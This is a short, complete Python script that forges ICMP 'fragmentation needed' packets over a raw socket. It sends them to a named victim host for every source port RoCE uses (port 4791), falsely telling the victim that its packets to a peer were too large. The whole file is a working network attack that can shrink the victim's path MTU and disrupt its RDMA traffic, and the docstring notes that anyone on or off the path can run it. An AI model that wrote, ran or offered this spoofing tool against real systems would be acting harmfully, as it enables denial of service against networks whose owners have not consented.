#!/usr/bin/python3
"""spoofed_icmp.py VICTIM PEER MTU: tells VICTIM, from wherever this runs, that its packets to PEER at port 4791 were too
long for a hop (ICMP destination unreachable, fragmentation needed), for every source port that RoCE uses. Needs
the right to raw sockets; anybody on the path, and many off it, have that on a machine of their own."""

import ipaddress
import socket
import struct
import sys

PORT = 4791


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def fragmentation_needed(victim, peer, source_port, mtu):
    addresses = ipaddress.IPv4Address(victim).packed + ipaddress.IPv4Address(peer).packed
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 1100, 0, 0x4000, 64, 17, 0) + addresses
    udp = struct.pack(">HHHH", source_port, PORT, 1080, 0)
    body = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + ip + udp
    return body[:2] + struct.pack(">H", checksum(body)) + body[4:]


def main():
    victim, peer, mtu = sys.argv[1], sys.argv[2], int(sys.argv[3])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as attacker:
        for source_port in range(0xC000, 0x10000):
            attacker.sendto(fragmentation_needed(victim, peer, source_port, mtu), (victim, 0))


main()
